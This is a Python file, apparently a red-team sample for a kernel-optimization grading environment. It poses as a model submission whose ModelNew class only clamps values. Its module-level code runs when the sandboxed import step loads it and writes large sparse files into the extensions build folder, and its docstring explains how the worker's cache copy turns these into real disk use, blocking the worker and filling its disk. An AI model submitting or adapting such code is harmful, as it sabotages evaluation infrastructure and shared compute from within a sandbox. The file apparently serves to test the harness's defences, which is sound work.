"""Hack (worker DoS): the load_inline import step (this file names torch.utils.cpp_extension, so the
environment imports it in a sandboxed child with TORCH_EXTENSIONS_DIR in its scratch folder) leaves a
sparse file in the build folder: a hole of RT3_BLOB_MB MiB (default 256), no data written. The worker
then copies the build folder into its persistent inline cache (evaluate._store, shutil.copytree, run
synchronously in the worker's event loop), filling every hole with zeros on disk. A few bytes of
candidate code cost the worker RT3_BLOB_MB MiB of disk for good, per distinct candidate; the import
child may leave thousands of such files (RLIMIT_FSIZE is 1 GiB per file, with no bound on count or
total), and the copy blocks the worker while it fills the disk. ModelNew is beside the point."""
import os

import torch.nn as nn

_d = os.environ.get("TORCH_EXTENSIONS_DIR")
if _d and os.environ.get("CUDA_AGENT_SERVE_DEVICE") is None:  # the import child, not a server
    os.makedirs(os.path.join(_d, "blob"), exist_ok=True)
    for i in range(int(os.environ.get("RT3_BLOBS", "1"))):
        with open(os.path.join(_d, "blob", f"part{i}.so.bin"), "wb") as f:
            f.truncate(int(os.environ.get("RT3_BLOB_MB", "256")) << 20)


class ModelNew(nn.Module):
    def forward(self, x):
        return x.clamp_min(0.0)
